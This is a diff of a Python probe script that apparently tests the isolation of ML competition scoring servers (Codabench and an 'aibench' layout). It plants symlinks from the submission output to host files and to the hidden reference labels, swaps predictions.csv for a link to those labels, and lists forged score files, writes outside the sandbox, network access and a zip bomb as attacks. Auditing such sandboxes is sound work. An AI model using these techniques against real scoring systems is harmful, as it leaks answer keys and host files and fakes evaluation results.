@@ -76,25 +76,25 @@ def whoami(out):
                   f"cwd={os.getcwd()} argv={sys.argv[1:]} output={out} output_source={output_source()}")
 
 
-def link_to_ref(out):
-    """(a) links in the output to the labels; predictions.csv itself becomes one at exit."""
-    source = output_source()
-    targets = {
-        "link-app-ref.csv": "/app/input/ref/labels.csv",   # resolves in the scoring container
-        "link-rel-res.csv": "../ref/labels.csv",           # from /app/input/res at scoring time
-        "link-rel-run.csv": "../input/ref/labels.csv",     # from <run>/output on the host
-        "link-host-sentinel.txt": HOST_SENTINEL,           # any host file, by absolute path
-        "link-etc-hostname": "/etc/hostname",
-    }
-    if source:
-        targets["link-host-ref.csv"] = os.path.join(os.path.dirname(source), "input", "ref", "labels.csv")
+def make_links(attack, out, targets):
     for name, target in targets.items():
         try:
             os.symlink(target, os.path.join(out, name))
-            say("link-to-ref", f"{name} -> {target}")
+            say(attack, f"{name} -> {target}")
         except OSError as error:
-            say("link-to-ref", f"{name}: {error}")
-    best = targets.get("link-host-ref.csv", "/app/input/ref/labels.csv")
+            say(attack, f"{name}: {error}")
+
+
+def link_to_ref(out):
+    """(a) links in the output to host files by absolute path; predictions.csv itself becomes a link
+    to the run's labels (host path from mountinfo) at exit."""
+    source = output_source()
+    make_links("link-to-ref", out, {"link-host-sentinel.txt": HOST_SENTINEL, "link-etc-hostname": "/etc/hostname"})
+    best = "/app/input/ref/labels.csv"
+    if source and source.endswith("/prediction/output"):  # aibench: <run>/prediction/output, <run>/bundle/reference_data
+        best = os.path.join(os.path.dirname(os.path.dirname(source)), "bundle", "reference_data", "labels.csv")
+    elif source:  # Codabench: <run>/output, <run>/input/ref
+        best = os.path.join(os.path.dirname(source), "input", "ref", "labels.csv")
 
     def swap():  # after the ingestion program wrote its predictions.csv
         path = os.path.join(out, "predictions.csv")
@@ -106,6 +106,15 @@ def link_to_ref(out):
         except OSError as error:
             say("link-to-ref", f"predictions.csv: {error}")
     return swap
+
+
+def link_at_scoring(out):
+    """(a') links that resolve only where the scoring step sees the labels, if links survive."""
+    make_links("link-at-scoring", out, {
+        "link-app-ref.csv": "/app/input/ref/labels.csv",   # in the scoring container
+        "link-rel-res.csv": "../ref/labels.csv",           # from /app/input/res, or <run>/input/res
+        "link-rel-run.csv": "../input/ref/labels.csv",     # from <run>/output on a host
+    })
 
 
 def metadata_link(out):
@@ -200,7 +209,7 @@ def scores_in_output(out):
     say("scores-in-output", "wrote scores.json and scores.txt (accuracy 1.0, a YAML object tag) into the output")
 
 
-ATTACKS = {"link-to-ref": link_to_ref, "metadata-link": metadata_link, "write-outside": write_outside,
+ATTACKS = {"link-to-ref": link_to_ref, "link-at-scoring": link_at_scoring, "metadata-link": metadata_link, "write-outside": write_outside,
            "network": network, "scores-in-output": scores_in_output, "glob-labels": None,
            "zip-bomb": None, "many-files": None}
 
